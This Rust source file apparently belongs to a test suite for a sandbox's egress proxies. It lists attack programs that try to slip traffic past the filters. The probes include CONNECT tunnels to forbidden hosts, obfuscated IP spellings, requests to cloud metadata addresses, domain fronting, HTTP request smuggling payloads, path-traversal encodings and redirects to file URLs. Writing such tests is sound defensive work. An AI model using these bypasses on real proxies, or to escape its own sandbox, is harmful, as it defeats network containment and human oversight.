//! The proxies: requests that mean one thing to one parser and another to the next.

use crate::table::{Attack, Group, recorded};

pub(crate) const ATTACKS: &[Attack] = &[
    // Destinations.
    tries("CONNECT to a host that is not allowed", "connect(f'{FORBIDDEN}:443'); tunnel(f'{FORBIDDEN}:443', f'GET /{N} HTTP/1.1\\r\\nHost: {FORBIDDEN}\\r\\n\\r\\n')"),
    tries("CONNECT to an address", "for port in (80, 443, 9000): connect(f'{OUT}:{port}', send=N); connect(f'{NEAR}:{port}', send=N); connect(f'{FAR}:{port}', send=N)"),
    tries("CONNECT to an address in other spellings", "
a, b, c, d = map(int, OUT.split('.'))
for name in (a << 24 | b << 16 | c << 8 | d, hex(a << 24 | b << 16 | c << 8 | d), f'0{a:o}.0{b:o}.0{c:o}.0{d:o}', f'{a}.{b}.{c << 8 | d}', f'[::ffff:{OUT}]', f'[::{OUT}]', f'0x{a:x}.{b}.{c}.{d}', f'{OUT}.'): connect(f'{name}:9000', send=N); get(f'http://{name}:9000/{N}')"),
    tries("CONNECT to other ports of an allowed host", "for port in (22, 25, 53, 9000, 0, 65536, -1, '0443', '443 ', '+9000', '9000#443'): connect(f'{OUTSIDE}:{port}', send=N)"),
    tries("CONNECT to another port of a routed host", "for port in (22, 80, 9000): connect(f'{API}:{port}', send=N); tunnel(f'{API}:{port}', f'GET /echo?{N} HTTP/1.1\\r\\nHost: {API}\\r\\n\\r\\n')"),
    tries("CONNECT whose Host is allowed", "tunnel(f'{FORBIDDEN}:443', f'GET /{N} HTTP/1.1\\r\\nHost: {OUTSIDE}\\r\\n\\r\\n', sni=OUTSIDE, connect_host=f'{OUTSIDE}:443')"),
    tries("CONNECT with two targets", "bare(f'CONNECT {OUTSIDE}:443 {FORBIDDEN}:443 HTTP/1.1\\r\\nHost: {OUTSIDE}\\r\\nX: {N}\\r\\n\\r\\n'); bare(f'CONNECT {OUTSIDE}:443,{FORBIDDEN}:443 HTTP/1.1\\r\\n\\r\\n'); connect(f'{OUTSIDE}:443@{FORBIDDEN}:80', send=f'GET /{N} HTTP/1.0\\r\\n\\r\\n')"),
    tries("a plain request to a host that is not allowed", "get(f'http://{FORBIDDEN}/{N}')"),
    tries("a plain request to an address", "for to in (OUT, NEAR, FAR): get(f'http://{to}/{N}'); get(f'http://{to}:9000/{N}')"),
    tries("a plain request to other ports of an allowed host", "for port in (22, 53, 9000): get(f'http://{OUTSIDE}:{port}/{N}')"),
    tries("a plain request to the host's addresses", "for to in (*HOSTS, GATEWAY): get(f'http://{to}:{HTCP}/{N}'); connect(f'{to}:{HTCP}', send=N)"),
    tries("the host by its loopback address, from the proxies", "for to in ('127.0.0.1', 'localhost', '0.0.0.0', '[::1]', '[::]', '127.1', '2130706433', '0'): get(f'http://{to}:{HTCP}/{N}'); connect(f'{to}:{HTCP}', send=N)"),
    tries("the metadata service through the proxies", "for to in ('169.254.169.254', '[fd00:ec2::254]', 'metadata.google.internal', '[::ffff:169.254.169.254]', '2852039166', '169.254.170.2', '100.100.100.200'): got_if_ok(get(f'http://{to}/latest/meta-data/{N}')); got_if_ok(connect(f'{to}:80', send=f'GET /{N} HTTP/1.0\\r\\n\\r\\n'))").claimed(),
    tries("the sidecars through the proxies", "for to in ('supervise:9100', 'git-gate:9418', 'pipelock:8888', 'egress:9099', *[f'{side}:{port}' for side in (*SIDES, *SIDES_OUT) for port in (8888, 9099, 9100, 9418)]): got_if_ok(get(f'http://{to}/healthz')); got_if_ok(connect(to, send='GET /healthz HTTP/1.0\\r\\n\\r\\n'))").claimed(),
    tries("the proxies' own addresses as a loop", "for to in ('127.0.0.1:8888', 'localhost:8888', '127.0.0.1:9099', '0.0.0.0:8888', '[::1]:8888'): got_if_ok(connect(to, send='GET /health HTTP/1.0\\r\\n\\r\\n')); got_if_ok(get(f'http://{to}/health'))").claimed(),
    tries("the pages of the proxies themselves", "
for path in ('/metrics', '/stats', '/debug/pprof/', '/api/v1/config', '/flows', '/options', '/mitm.it', '/fetch?url=http://forbidden.test/' + N, '/ws', '/kill', '/reload'):
    for method in ('GET', 'POST'): got_if_ok(bare(f'{method} {path} HTTP/1.1\\r\\nHost: egress\\r\\nContent-Length: 0\\r\\nConnection: close\\r\\n\\r\\n'))
got_if_ok(get('http://mitm.it/'))").claimed(),
    // Names that disagree.
    tries("an absolute target that its Host denies", "get(f'http://{OUTSIDE}/echo?{N}', host=FORBIDDEN); get(f'http://{FORBIDDEN}/{N}', host=OUTSIDE)"),
    tries("two Hosts, and a Host in other spellings", "for more in (f'Host: {FORBIDDEN}\\r\\n', f'HOST: {FORBIDDEN}\\r\\n', f'Host : {FORBIDDEN}\\r\\n', f' Host: {FORBIDDEN}\\r\\n', f'\\tHost: {FORBIDDEN}\\r\\n', f'Host\\0: {FORBIDDEN}\\r\\n'): get(f'http://{OUTSIDE}/echo?{N}', more=more)"),
    tries("a forbidden server name in an allowed host's tunnel", "tunnel(f'{OUTSIDE}:443', f'GET /echo?{N} HTTP/1.1\\r\\nHost: {OUTSIDE}\\r\\n\\r\\n', sni=FORBIDDEN); tunnel(f'{OUTSIDE}:443', f'GET /echo?{N} HTTP/1.1\\r\\nHost: {FORBIDDEN}\\r\\n\\r\\n', sni=FORBIDDEN)"),
    tries("a forbidden Host in an allowed host's tunnel (fronting)", "tunnel(f'{OUTSIDE}:443', f'GET /echo?{N} HTTP/1.1\\r\\nHost: {FORBIDDEN}\\r\\n\\r\\n')"),
    tries("the routed host fronted by an allowed one", "tunnel(f'{OUTSIDE}:443', f'GET /other?{N} HTTP/1.1\\r\\nHost: {API}\\r\\n\\r\\n'); tunnel(f'{OUTSIDE}:443', f'GET /other?{N} HTTP/1.1\\r\\nHost: {API}\\r\\n\\r\\n', sni=API)"),
    tries("no server name", "tunnel(f'{OUTSIDE}:443', f'GET /echo?{N} HTTP/1.1\\r\\nHost: {FORBIDDEN}\\r\\n\\r\\n', sni='')"),
    tries("a second request in the tunnel with another Host", "tunnel(f'{OUTSIDE}:443', f'GET /echo?first HTTP/1.1\\r\\nHost: {OUTSIDE}\\r\\n\\r\\nGET /echo?{N} HTTP/1.1\\r\\nHost: {FORBIDDEN}\\r\\n\\r\\n')"),
    tries("an absolute target in a tunnel", "routed(f'GET https://{FORBIDDEN}/{N}'); tunnel(f'{OUTSIDE}:443', f'GET https://{FORBIDDEN}/{N} HTTP/1.1\\r\\nHost: {OUTSIDE}\\r\\n\\r\\n'); routed(f'GET http://{FORBIDDEN}/{N}', host=FORBIDDEN)"),
    tries("a CONNECT inside a tunnel", "tunnel(f'{OUTSIDE}:443', f'CONNECT {FORBIDDEN}:80 HTTP/1.1\\r\\nHost: {FORBIDDEN}\\r\\n\\r\\nGET /{N} HTTP/1.0\\r\\n\\r\\n')"),
    tries("user information that looks like a host", "for target in (f'http://{OUTSIDE}@{FORBIDDEN}/{N}', f'http://{OUTSIDE}:80@{FORBIDDEN}/{N}', f'http://{FORBIDDEN}@{OUTSIDE}/echo?{N}', f'http://{FORBIDDEN}%40{OUTSIDE}/{N}'):
    for host in (OUTSIDE, FORBIDDEN): get(target, host=host)"),
    tries("a target that browsers and servers read differently", "for target in (f'http://{FORBIDDEN}#@{OUTSIDE}/{N}', f'http://{FORBIDDEN}\\\\@{OUTSIDE}/{N}', f'http:/{FORBIDDEN}/{N}', f'http:{FORBIDDEN}/{N}', f'http:\\\\\\\\{FORBIDDEN}/{N}', f'//{FORBIDDEN}/{N}', f'http://{FORBIDDEN};{OUTSIDE}/{N}'):
    for host in (OUTSIDE, FORBIDDEN): get(target, host=host)"),
    tries("headers that name another host", "for name in ('X-Forwarded-Host', 'Forwarded', 'X-Host', 'X-Original-URL', 'X-Rewrite-URL', 'X-HTTP-Host-Override', 'Location', 'Proxy-Host', 'Alt-Used'): get(f'http://{FORBIDDEN}/{N}', more=f'{name}: {OUTSIDE}\\r\\n'); routed(f'GET /other?{N}', more=f'{name}: /echo\\r\\n')"),
    // Schemes and versions.
    tries("other schemes", "for scheme in ('ftp', 'gopher', 'file', 'ws', 'wss', 'dict', 'ldap', 'tftp', 'unix', 'jar', 'data', 'HTTPS', 'https'): get(f'{scheme}://{FORBIDDEN}/{N}'); get(f'{scheme}://{OUTSIDE}/echo?{N}') if scheme not in ('HTTPS', 'https', 'ws', 'wss') else None"),
    tries("an https target without a tunnel", "get(f'https://{FORBIDDEN}/{N}'); get(f'https://{API}/other?{N}')"),
    tries("HTTP/0.9", "bare(f'GET http://{FORBIDDEN}/{N}\\r\\n')"),
    tries("HTTP/1.0 and unknown versions to a host that is not allowed", "for version in ('HTTP/1.0', 'HTTP/2.0', 'HTTP/3', 'HTTP/1.10', 'http/1.1', 'HTTP/1.1 ', 'HTCPCP/1.0'): get(f'http://{FORBIDDEN}/{N}', version=version)"),
    tries("HTTP/2 with prior knowledge", "bare(h2_request(FORBIDDEN, '/' + N)); bare(h2_request(f'{FORBIDDEN}:443', '/' + N), (proxy().hostname, proxy().port))"),
    tries("HTTP/2 in a tunnel, with another authority", "tunnel(f'{OUTSIDE}:443', h2_request(FORBIDDEN, '/' + N), alpn=['h2'])"),
    tries("HTTP/2 by an upgrade (h2c)", "get(f'http://{FORBIDDEN}/{N}', more='Upgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\n')"),
    tries("HTTP/3", "udp(OUT, 443, b'\\xc0\\0\\0\\0\\1' + N.encode()); connect(f'{OUTSIDE}:443', more='Alt-Svc: h3\\r\\nCapsule-Protocol: ?1\\r\\n:protocol: connect-udp\\r\\n'.replace(':protocol', 'X-Protocol'), send=b'\\0' + N.encode())"),
    tries("another protocol in a tunnel", "for greeting in ('SSH-2.0-', 'EHLO ', 'USER ', '\\x05\\x01\\0', 'GET / HTTP/1.0\\r\\nX: '): connect(f'{OUTSIDE}:443', send=f'{greeting}{N}\\r\\n\\r\\n')"),
    tries("plain HTTP in a tunnel to an allowed host", "connect(f'{OUTSIDE}:443', send=f'GET /echo?{N} HTTP/1.1\\r\\nHost: {FORBIDDEN}\\r\\n\\r\\n'); connect(f'{OUTSIDE}:80', send=f'GET /echo?{N} HTTP/1.1\\r\\nHost: {FORBIDDEN}\\r\\n\\r\\n')"),
    // Framing. The nonce is only in the request that is hidden.
    tries("smuggling: length and chunks", "smuggle('Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n', '0\\r\\n\\r\\n')"),
    tries("smuggling: chunks and length", "smuggle('Transfer-Encoding: chunked\\r\\nContent-Length: 4\\r\\n', '0\\r\\n\\r\\n')"),
    tries("smuggling: two lengths", "smuggle('Content-Length: 0\\r\\nContent-Length: 400\\r\\n', ''); smuggle('Content-Length: 0, 400\\r\\n', '')"),
    tries("smuggling: chunks in disguise", "for value in ('xchunked', 'chunked, identity', 'identity, chunked', '\\x0bchunked', ' chunked', 'chunked\\r\\n x', '\"chunked\"', 'CHUNKED ', 'chunked\\0'): smuggle(f'Content-Length: 4\\r\\nTransfer-Encoding:{value}\\r\\n', '0\\r\\n\\r\\n'); smuggle(f'Transfer-Encoding:{value}\\r\\n', '0\\r\\n\\r\\n')"),
    tries("smuggling: misspelt lengths", "for name in ('Content_Length', 'Content-Length ', ' Content-Length', 'Content-Length\\x0b', 'content-lenght', 'X: y\\rContent-Length', 'X: y\\nContent-Length'): smuggle(f'{name}: 400\\r\\nContent-Length: 0\\r\\n', '')"),
    tries("smuggling: lengths that are no plain numbers", "for value in ('+0', '-1', '0x0', '0_0', ' 0', '0 400', '1e0', '\\u0660'.encode().decode('latin-1'), '', '99999999999999999999'): smuggle(f'Content-Length: {value}\\r\\n', '')"),
    tries("smuggling: a size of a chunk that overflows", "for size in ('10000000000000000', 'fffffffffffffff0', '00000000000000000000'): smuggle('Transfer-Encoding: chunked\\r\\n', f'{size}\\r\\n\\r\\n', in_the_open=False)"),
    tries("smuggling: a size of a chunk with a sign or a prefix", "for size in ('-1', '0x5', '+0'): smuggle('Transfer-Encoding: chunked\\r\\n', f'{size}\\r\\n\\r\\n')"),
    tries("smuggling: a size of a chunk with spaces or a bare line end, and none", "for size in ('0;a\\n', '0 ', ''): smuggle('Transfer-Encoding: chunked\\r\\n', f'{size}\\r\\n\\r\\n')"),
    tries("smuggling: trailers and chunk extensions", "smuggle('Transfer-Encoding: chunked\\r\\nTrailer: Host\\r\\n', f'0\\r\\nHost: {FORBIDDEN}\\r\\nContent-Length: 4\\r\\n\\r\\n'); smuggle('Transfer-Encoding: chunked\\r\\n', '0;x=\"\\r\\n\\r\\n')"),
    tries("smuggling: bare line ends", "smuggle('X: y\\n\\n', ''); smuggle('X: y\\r\\r', ''); smuggle('X: y\\n\\r\\n', '')"),
    tries("smuggling: a folded header", "smuggle('X: y\\r\\n Content-Length: 400\\r\\nContent-Length: 0\\r\\n', '')"),
    tries("smuggling: a body on GET, HEAD and DELETE", "for method in ('GET', 'HEAD', 'OPTIONS'): smuggle('Content-Length: 0\\r\\nTransfer-Encoding: identity\\r\\n', '', method=method)"),
    tries("smuggling: Expect and an answer that does not wait", "smuggle('Expect: 100-continue\\r\\nContent-Length: 0\\r\\n', ''); smuggle('Expect: 200-ok\\r\\nContent-Length: 0\\r\\n', '')"),
    tries("smuggling: an upgrade that is refused", "for kind in ('h2c', 'websocket', 'TLS/1.2', 'foo'): smuggle(f'Connection: Upgrade\\r\\nUpgrade: {kind}\\r\\nContent-Length: 0\\r\\n', '')"),
    tries("smuggling: hop-by-hop headers that remove the framing", "for name in ('Content-Length', 'Transfer-Encoding', 'Host'): smuggle(f'Connection: {name}\\r\\nContent-Length: 0\\r\\n', '')"),
    tries("smuggling: a line end in a header's value", "for end in ('\\n', '\\r', '\\x0b', '\\x0c', '\\x85', '%0d%0a', '\\xe5\\x98\\x8a\\xe5\\x98\\x8d'): get(f'http://{OUTSIDE}/echo?first', more=f'X: y{end}{end}GET http://{FORBIDDEN}/{N} HTTP/1.1{end}Host: {FORBIDDEN}{end}{end}\\r\\n') if end in ('\\n',) else routed('GET /echo?first', more=f'X: y{end}X-Http-Method: DELETE\\r\\n')"),
    tries("pipelining: an allowed request, then a forbidden one", "bare(f'GET http://{OUTSIDE}/echo?first HTTP/1.1\\r\\nHost: {OUTSIDE}\\r\\n\\r\\nGET http://{FORBIDDEN}/{N} HTTP/1.1\\r\\nHost: {FORBIDDEN}\\r\\n\\r\\n')"),
    tries("pipelining: a CONNECT, then requests without waiting", "bare(f'CONNECT {FORBIDDEN}:80 HTTP/1.1\\r\\nHost: {FORBIDDEN}\\r\\n\\r\\nGET /{N} HTTP/1.1\\r\\nHost: {FORBIDDEN}\\r\\n\\r\\n'); bare(f'CONNECT {OUTSIDE}:443 HTTP/1.1\\r\\n\\r\\nCONNECT {FORBIDDEN}:80 HTTP/1.1\\r\\n\\r\\nGET /{N} HTTP/1.1\\r\\n\\r\\n')"),
    tries("an oversize head", "get(f'http://{FORBIDDEN}/{N}', more='X: ' + 'y' * 200000 + '\\r\\n'); get(f'http://{FORBIDDEN}/{N}?' + 'y' * 200000); get(f'http://{FORBIDDEN}/{N}', more=''.join(f'X{i}: y\\r\\n' for i in range(20000)))"),
    tries("a slow head", "
with to_proxy() as made:
    try:
        for byte in f'GET http://{FORBIDDEN}/{N} HTTP/1.1\\r\\nHost: {FORBIDDEN}\\r\\n\\r\\n'.encode(): made.send(bytes([byte])); time.sleep(0.01)
    except OSError as error: print(error)
    answer_of(made)"),
    // Routes.
    tries("a path that no route allows", "for path in ('/other', '/echoes', '/', '*', '/v2/x', '/echo/../other'): routed(f'GET {path}?{N}')"),
    tries("dot segments in every encoding", "for path in ('/v1/../other', '/v1/%2e%2e/other', '/v1/.%2E/other', '/v1/..%2fother', '/v1/..;/other', '/v1/%252e%252e/other', '/v1/..%5cother', '/v1/..\\\\other', '/v1/%c0%ae%c0%ae/other', '/v1/%uff0e%uff0e/other', '/v1/%ef%bc%8e%ef%bc%8e/other', '/v1/./../other'): routed(f'GET {path}?{N}') if '%252e' not in path else None"),
    tries("slashes, parameters and null bytes in a path", "for path in ('//other', '/other//v1/', '/%2fother', '/other%00/v1/', '/other;/v1/', '/other%3b/v1/', '\\\\other', '/other%23/v1/', '/other?/v1/', '/V1/x', '/v1%2f..%2fother'): routed(f'GET {path}?{N}')"),
    tries("a method that no route allows", "for method in ('DELETE', 'PUT', 'PATCH', 'get', 'Get', 'PROPFIND', 'MKCOL', 'X', 'DELETE\\tGET'): routed(f'{method} /v1/x?{N}')"),
    tries("TRACE and OPTIONS", "routed(f'TRACE /v1/x?{N}'); routed(f'TRACK /v1/x?{N}'); routed(f'OPTIONS /v1/x?{N}'); get(f'http://{OUTSIDE}/{N}', method='TRACE')"),
    tries("a method hidden in a header", "for name in ('X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override', 'x-http-method-override', 'X_HTTP_Method_Override'): routed(f'POST /v1/x?{N}', more=f'{name}: DELETE\\r\\nContent-Length: 0\\r\\n')"),
    tries("a routed host without encryption", "get(f'http://{API}/v1/x?{N}'); get(f'http://{API}:443/v1/x?{N}'); connect(f'{API}:443', send=f'GET /v1/x?{N} HTTP/1.1\\r\\nHost: {API}\\r\\n\\r\\n')"),
    tries("a WebSocket on a path that no route allows", "routed(f'GET /ws?{N}', more='Upgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: eA==\\r\\n')"),
    tries("half a WebSocket handshake", "routed(f'GET /v1/x?{N}', more='Upgrade: websocket\\r\\nConnection: Upgrade\\r\\n'); get(f'http://{FORBIDDEN}/ws?{N}', more='Upgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: eA==\\r\\n')"),
    tries("a redirect to a host that is not allowed", "for host in (OUTSIDE, API): sh(f'curl -sSL -m 8 \"https://{host}/redirect?to=https://{FORBIDDEN}/{N}\" | head -c 500'); sh(f'curl -sSL -m 8 \"https://{host}/redirect?to=http://{FORBIDDEN}/{N}\" | head -c 500')"),
    tries("a redirect to the host, to itself and to an address", "
for to in (f'http://{HOSTS[0]}:{HTCP}/', f'http://127.0.0.1:{HTCP}/', f'http://{OUT}:9000/', f'ftp://{OUT}:9000/', f'gopher://{OUT}:9000/', f'file:///etc/'): sh(f'curl -sSL -m 8 \"https://{OUTSIDE}/redirect?to={to}{N}\" | head -c 500')"),
    // Pipelock alone.
    tries("without egress: CONNECT to a host that is not allowed", "connect(f'{FORBIDDEN}:443'); tunnel(f'{FORBIDDEN}:443', f'GET /{N} HTTP/1.1\\r\\nHost: {FORBIDDEN}\\r\\n\\r\\n')").in_plain(),
    tries("without egress: CONNECT to addresses and other ports", "
for to in (OUT, NEAR, FAR, *HOSTS, '127.0.0.1', 'localhost', '[::1]'):
    for port in (80, 9000, HTCP): connect(f'{to}:{port}', send=N)
for port in (22, 25, 53): connect(f'{OUT}:{port}', send=N)").in_plain(),
    tries("without egress: other ports of an allowed host", "for port in (22, 25, 53, 9000): connect(f'{OUTSIDE}:{port}', send=N); get(f'http://{OUTSIDE}:{port}/{N}')").in_plain(),
    tries("without egress: plain requests to forbidden hosts", "get(f'http://{FORBIDDEN}/{N}'); get(f'http://{OUTSIDE}@{FORBIDDEN}/{N}'); get(f'http://{FORBIDDEN}/{N}', host=OUTSIDE)").in_plain(),
    tries("without egress: a forbidden server name in an allowed tunnel", "tunnel(f'{OUTSIDE}:443', f'GET /{N} HTTP/1.1\\r\\nHost: {FORBIDDEN}\\r\\n\\r\\n', sni=FORBIDDEN)").in_plain(),
    tries("without egress: pipelock's own pages", "for path in ('/metrics', '/stats', '/fetch?url=http://forbidden.test/' + N, '/debug/pprof/', '/api/v1/config', '/reload', '/ws?url=ws://forbidden.test/'): bare(f'GET {path} HTTP/1.1\\r\\nHost: pipelock:8888\\r\\nConnection: close\\r\\n\\r\\n')").in_plain(),
];

const fn tries(name: &'static str, program: &'static str) -> Attack {
    recorded(Group::Proxy, name, program)
}
